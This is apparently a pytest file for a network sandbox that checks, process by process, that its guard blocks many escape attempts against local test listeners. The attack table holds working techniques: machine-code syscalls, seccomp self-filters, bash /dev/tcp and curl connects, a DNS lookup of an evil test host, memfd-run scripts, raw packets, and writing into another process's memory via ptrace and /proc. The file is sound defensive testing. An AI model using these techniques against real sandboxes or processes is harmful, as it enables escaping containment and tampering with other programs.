"""What no witness sees reaches nothing that is not granted: native calls, other programs, other processes, raw packets.

Each attack reaches its target without the guard. Behind the wall it does not, whether nothing is granted or native code,
programs and one other destination are; as root and as an ordinary user.
"""

# ruff: noqa: E501  # one line a statement of the program, so that it can be read beside the others

from __future__ import annotations

import os
import platform
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.hostile.natives import PRELUDE, USERS, alone, lacking, walled
from tests.hostile.targets import Targets
from tests.support.guard import DOCKER
from tests.support.isolation import missing

pytestmark = pytest.mark.hostile

#: Nothing; and what code in a sandbox may have: any program, native code, and one destination, at which nobody is.
POLICIES = {
    "nothing": "",
    "native": "- {allow: [native, exec, file]}\n- {allow: connect, to: '127.0.0.1:9'}\n",
}

#: And where netguard can copy no descriptor, and so makes the program's sockets: in tier B.
CASES = [*[(name, rules, ()) for name, rules in POLICIES.items()], ("tier B", POLICIES["native"], DOCKER)]

SENDS = "s.send(b'out')"

#: mov rax, rdi; …; syscall; ret: any system call, past libc.
CODE = """
import mmap
room = mmap.mmap(-1, 4096, prot=7)
room.write(bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3"))
syscall = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7)(ctypes.addressof(ctypes.c_char.from_buffer(room)))
"""

#: Raw packets: an IPv4 header and a UDP one around "out".
PACKET = """
def packet(port):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 31, 1, 0, 64, 17, 0, socket.inet_aton(H), socket.inet_aton(H))
    return head + struct.pack(">HHHH", 9, port, 11, 0) + b"out"
"""

#: What another process of the same user has, outside of the guard: a connected socket, and a buffer that it sends.
VICTIM = """
s = udp(); s.connect((H, UDP))
place = ctypes.create_string_buffer(16)
print(os.getpid(), s.fileno(), ctypes.addressof(place), flush=True)
while True:
    if place.value: s.send(place.value); place.value = b""
    time.sleep(0.02)
"""

#: name -> (target, whether only root can do it, whether the supervisor hears of it, code)
ATTACKS: dict[str, tuple[str, bool, bool, str]] = {
    # Native code
    "libc": ("tcp", False, True, "raw('connect', socket.socket(), inet(TCP), 16)"),
    "libc, a v4-mapped address": ("tcp", False, True, "raw('connect', socket.socket(10), inet6(TCP, '::ffff:127.0.0.1'), 28)"),
    "libc, no blocking": ("tcp", False, True, "s = socket.socket(); s.setblocking(False); raw('connect', s, inet(TCP), 16); time.sleep(0.2)"),
    "machine code": ("tcp", False, True, CODE + "s = socket.socket(); syscall(42, s.fileno(), keep(inet(TCP)), 16, 0, 0, 0)"),
    "machine code, datagram": ("udp", False, True, CODE + "s = udp(); syscall(44, s.fileno(), keep(b'out'), 3, 0, keep(inet(UDP)), 16)"),
    "high words in the registers": ("udp", False, True, CODE + "s = udp(); syscall(44, s.fileno() | 7 << 40, keep(b'out'), 3, 3 << 40, keep(inet(UDP)), 16 | 5 << 32)"),
    "a thread that no library knows": ("tcp", False, True, "import _thread; _thread.start_new_thread(raw, ('connect', socket.socket(), inet(TCP), 16)); time.sleep(0.3)"),
    "a filter of its own": (
        "tcp", False, True,
        "libc.prctl(38, 1, 0, 0, 0); program = keep(struct.pack('HBBI', 6, 0, 0, 0x7fff0000))\n"
        "libc.prctl(22, 2, ctypes.c_void_p(keep(struct.pack('HxxxxxxQ', 1, program))), 0, 0)\n"
        "raw('connect', socket.socket(), inet(TCP), 16)",
    ),
    # No event of Python's
    "sendto": ("udp", False, True, "raw('sendto', udp(), b'out', 3, 0, inet(UDP), 16)"),
    "sendto of no family": ("udp", False, True, "raw('sendto', udp(), b'out', 3, 0, inet(UDP, family=0), 16)"),
    "sendmsg": ("udp", False, True, "raw('sendmsg', udp(), message(inet(UDP)), 0)"),
    "sendmmsg": ("udp", False, True, "raw('sendmmsg', udp(), message(inet(UDP), tail=bytes(8)), 1, 0)"),
    "sendmmsg, the second": ("udp", False, True, "raw('sendmmsg', udp(), message(inet(9), tail=bytes(8)) + message(inet(UDP), tail=bytes(8)), 2, 0); raw('sendmmsg', udp(), message(inet(UDP), tail=bytes(8)), 1, 0)"),
    "sendmmsg, connected elsewhere": ("udp", False, True, "s = udp(); raw('connect', s, inet(9), 16); raw('sendmmsg', s, message(b'', tail=bytes(8)) + message(inet(UDP), tail=bytes(8)), 2, 0); raw('sendmmsg', s, message(inet(UDP), tail=bytes(8)), 1, 0)"),
    "connected, and connected again": ("udp", False, True, "s = udp(); raw('connect', s, inet(9), 16); raw('connect', s, bytes(16), 16); raw('connect', s, inet(UDP), 16); try_(s.send, b'out')"),
    "fast open": ("tcp", False, True, "raw('sendto', socket.socket(), b'out', 3, 0x20000000, inet(TCP), 16)"),
    "fast open message": ("tcp", False, True, "raw('sendmsg', socket.socket(), message(inet(TCP)), 0x20000000)"),
    "fast open, connect": ("tcp", False, True, "s = socket.socket(); s.setsockopt(6, 30, 1); raw('connect', s, inet(TCP), 16); try_(os.write, s.fileno(), b'out')"),
    "unix": ("unix", False, True, "raw('connect', socket.socket(1), struct.pack('<H', 1) + UNIX.encode() + b'\\0', len(UNIX) + 3)"),
    "unix by a link": ("unix", False, True, "os.symlink(UNIX, 'link'); raw('connect', socket.socket(1), struct.pack('<H', 1) + b'link\\0', 7)"),
    "unix by another name": ("unix", True, True, "os.link(UNIX, 'name'); raw('connect', socket.socket(1), struct.pack('<H', 1) + b'name\\0', 7)"),
    "unix by the root of a process": ("unix", False, True, "p = b'/proc/self/root' + UNIX.encode(); raw('connect', socket.socket(1), struct.pack('<H', 1) + p + b'\\0', len(p) + 3)"),
    "unix by a descriptor": ("unix", False, True, "p = b'/proc/self/fd/%d' % os.open(UNIX, os.O_PATH); raw('connect', socket.socket(1), struct.pack('<H', 1) + p + b'\\0', len(p) + 3)"),
    # Other programs
    "bash": ("tcp", False, True, "subprocess.run(['bash', '-c', f': > /dev/tcp/{H}/{TCP}'])"),
    "perl": ("tcp", False, True, "subprocess.run(['perl', '-e', f'use IO::Socket::INET; IO::Socket::INET->new(\"{H}:{TCP}\")'])"),
    "curl": ("tcp", False, True, "subprocess.run(['curl', '-s', '-m', '3', f'http://{H}:{TCP}/'])"),
    "curl, UDP": ("udp", False, True, "subprocess.run(['curl', '-s', '-m', '1', f'tftp://{H}:{UDP}/x'])"),
    "a look-up of libc's": ("dns", False, True, "subprocess.run(['getent', 'hosts', 'secret.evil.test'])"),
    "vfork": ("tcp", False, True, "os.waitpid(os.posix_spawn('/usr/bin/env', ['env', sys.executable, '-I', '-S', '-c', f'import socket; socket.create_connection((\"{H}\", {TCP}))'], os.environ), 0)"),
    "a program in memory": (  # not heard of where programs are on a list: there is no such memory then
        "tcp", False, False,
        "m = os.memfd_create('x', 0); os.write(m, f'#!/bin/bash\\n: > /dev/tcp/{H}/{TCP}\\n'.encode()); os.waitpid(os.posix_spawn(f'/proc/self/fd/{m}', ['x'], {}), 0)",
    ),
    # Lifecycle
    "a daemon after the end": (
        "tcp", False, False,
        "if not os.fork():\n    os.setsid(); parent = os.getppid()\n    if not os.fork():\n"
        "        until = time.monotonic() + 2\n        while time.monotonic() < until and os.getppid() != 1: time.sleep(0.01)\n"
        "        time.sleep(0.3); raw('connect', socket.socket(), inet(TCP), 16)\n    os._exit(0)",
    ),
    "many that fork on": (
        "tcp", False, True,
        "for _ in range(6):\n    if os.fork() == 0:\n        for _ in range(3): os.fork()\n        raw('connect', socket.socket(), inet(TCP), 16); os._exit(0)\ntime.sleep(0.5)",
    ),
    "another user": ("tcp", True, True, "os.setgroups([]); os.setresgid(65534, 65534, 65534); os.setresuid(65534, 65534, 65534); raw('connect', socket.socket(), inet(TCP), 16)"),
    "at the end of a thread": ("tcp", False, True, "threading.Thread(target=lambda: (time.sleep(0.2), raw('connect', socket.socket(), inet(TCP), 16))).start()"),
    "while its end is asked for": (
        "tcp", False, True,
        "signal.signal(signal.SIGTERM, lambda *_: raw('connect', socket.socket(), inet(TCP), 16)); os.kill(os.getpid(), signal.SIGTERM)",
    ),
    # Raw packets
    "raw": ("udp", True, False, PACKET + "s = try_(socket.socket, 2, 3, 255)\nif not isinstance(s, str): s.sendto(packet(UDP), (H, 0))"),
    # Other processes, and memory
    "another's descriptor": ("udp", False, False, "fd = libc.syscall(438, os.pidfd_open(VICTIM[0]), VICTIM[1], 0)\nif fd >= 0: os.write(fd, b'out')"),
    "another's memory": ("udp", False, False, "m = os.open(f'/proc/{VICTIM[0]}/mem', os.O_RDWR); os.pwrite(m, b'out', VICTIM[2]); time.sleep(0.3)"),
    "another's memory, by a call": (
        "udp", False, False,
        "libc.process_vm_writev(VICTIM[0], ctypes.c_void_p(keep(struct.pack('QQ', keep(b'out'), 3))), 1, ctypes.c_void_p(keep(struct.pack('QQ', VICTIM[2], 3))), 1, 0); time.sleep(0.3)",
    ),
    "another's memory, traced": (
        "udp", False, False,
        "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n"
        "if libc.ptrace(16, VICTIM[0], 0, 0) == 0:\n    os.waitpid(VICTIM[0], 0x40000000); libc.ptrace(4, VICTIM[0], VICTIM[2], int.from_bytes(b'out', 'little')); libc.ptrace(17, VICTIM[0], 0, 0); time.sleep(0.3)",
    ),
}  # fmt: skip

if platform.machine() != "x86_64":
    for name in [name for name, (*_, code) in ATTACKS.items() if "syscall(" in code]:
        del ATTACKS[name]


@pytest.fixture(scope="module")
def reachable(targets: Targets) -> Targets:
    """The targets, for every user."""
    os.chmod(targets.unix.path, 0o777)
    return targets


@pytest.fixture(params=list(USERS))
def user(request: pytest.FixtureRequest) -> str:
    if missing() or lacking(request.param):
        pytest.skip(missing() or lacking(request.param))
    return str(request.param)


@pytest.fixture
def victim(user: str, reachable: Targets, tmp_path: Path) -> Iterator[list[int]]:
    """A process of the same user that is not guarded: its pid, a descriptor, an address."""
    file = tmp_path / "victim.py"
    host, _, port, *_ = reachable.place
    file.write_text(f"{PRELUDE}H, UDP = {host!r}, {port}\n{VICTIM}")
    words = [*USERS[user], sys.executable, "-I", "-S", str(file)]
    with subprocess.Popen(reachable.space.command(words), stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout
        yield [int(word) for word in process.stdout.readline().split()]
        process.kill()


@pytest.mark.parametrize("attack", ATTACKS)
def test_native_attack_works_alone_and_reaches_nothing_behind_the_wall(
    attack: str, user: str, victim: list[int], reachable: Targets, tmp_path: Path
) -> None:
    target, for_root, heard, code = ATTACKS[attack]
    tmp_path.chmod(0o777)
    host, tcp, udp, unix, _ = reachable.place
    given = {"H": host, "TCP": tcp, "UDP": udp, "UNIX": unix, "VICTIM": victim}
    how = {"user": user, "within": reachable.space}
    reachable.touched()
    bare = alone(tmp_path, code, **how, **given)
    works = reachable.touched()
    if for_root and user != "as we are":
        assert target not in works
        return
    if not works and "FileNotFoundError" in bare.stderr:
        pytest.skip(f"a program: {bare.stderr.splitlines()[-1]}")
    assert target in works, bare.stderr
    for name, rules, around in CASES:
        for left in ("link", "name"):
            (tmp_path / left).unlink(missing_ok=True)
        held = walled(tmp_path, code, rules, around=around, **how, **given)
        assert reachable.touched() <= {"mark"}, (name, held.stderr, held.trail)
        assert [line for line in held.trail if line.get("verdict") == "deny"] or not heard, (name, held.stderr)
        assert held.lines("tamper") == [], name
        assert held.lines("close"), name
